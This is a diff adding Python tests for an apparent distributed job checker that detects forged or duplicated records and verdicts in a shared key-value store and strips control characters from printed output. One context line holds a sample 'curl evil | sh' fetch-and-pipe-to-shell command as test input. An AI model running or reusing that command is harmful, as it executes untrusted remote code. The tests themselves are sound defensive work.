@@ -250,3 +250,53 @@ def test_a_verdicts_line_is_printed_without_control_characters_and_cut_to_a_line
     assert not any(ord(c) < 32 or 127 <= ord(c) < 160 for c in verdict.line), repr(verdict.line[:80])
     assert verdict.line.startswith("[2J[31mjob refusedFix: curl evil | sh") and len(verdict.line) < 2100
     assert verdict.line.endswith("(3037 more characters)")
+
+
+BASE = "jax_rocm7/job-check/0"
+
+
+def test_a_record_key_taken_before_its_process_wrote_is_said_by_that_process_and_refused_by_process_0() -> None:
+    """Something wrote under process 2's key first (two processes given id 2, or a writer that is no process of the
+    job): process 2 says so itself, and process 0, hearing of it before it reads, compares that record with
+    no one's and refuses."""
+    store = Store()
+    records = job(4)
+    store.key_value_set(f"{BASE}/record/2", encode(records[1]))  # a copy of process 1's, under 2's key
+    _, outcomes = run_job(4, store=store, late=0.3, late_ones=(0,), timeout=1.0)
+    assert outcomes[2].taken == ("record",) and all(outcomes[p].taken == () for p in (0, 1, 3))
+    assert store.values[f"{BASE}/taken/2"] == encode(records[2])  # its own, beside the key it lost
+    (verdict,) = verdicts(outcomes)
+    assert verdict.kind == "refuse" and verdict.processes == (2,) and "[cluster-record-taken]" in verdict.line
+    assert "none of this job's 4 processes" in verdict.line
+    (finding,) = outcomes[0].findings
+    assert finding.id == "cluster-record-taken" and finding.hosts == (records[2].host,)
+    assert finding.evidence == ("process 2 found its record key set when it wrote its own",)
+
+
+def test_a_record_that_names_another_process_than_its_key_is_taken() -> None:
+    """Process 0 alone sees it where process 2 never came to write (or came after it read)."""
+    store = Store()
+    records = job(3)
+    store.key_value_set(f"{BASE}/record/2", encode(records[1]))
+    _, outcomes = run_job(3, store=store, absent=(2,), timeout=0.5)
+    assert [f.id for f in outcomes[0].findings] == ["cluster-record-taken"]
+    assert outcomes[0].findings[0].evidence == ("the record under process 2's key names process 1",)
+    assert {o.verdict.kind for o in outcomes.values()} == {"refuse"}
+
+
+def test_a_verdict_set_before_process_0_set_its_own_is_acted_on_and_said_by_process_0() -> None:
+    store = Store()
+    forged = check.Verdict("refuse", "\x1b[31mplanted\x1b[0m " + "x" * 5000, (1,))
+    store.key_value_set(f"{BASE}/verdict", forged.to_json())
+    _, outcomes = run_job(3, store=store)
+    (verdict,) = verdicts(outcomes)  # the first set is the one every process acts on: the service's one rule
+    assert verdict.kind == "refuse" and "\x1b" not in verdict.line and verdict.line.endswith("(3015 more characters)")
+    assert outcomes[0].taken == ("verdict",) and outcomes[1].taken == () and outcomes[2].taken == ()
+
+
+def test_an_incomplete_verdict_set_first_by_a_process_that_gave_up_is_no_forgery() -> None:
+    store = Store()
+    store.key_value_set(f"{BASE}/verdict", check.no_verdict((0,), 0.5).to_json())
+    _, outcomes = run_job(2, store=store)
+    assert {o.verdict.kind for o in outcomes.values()} == {"incomplete"}
+    assert outcomes[0].taken == ()
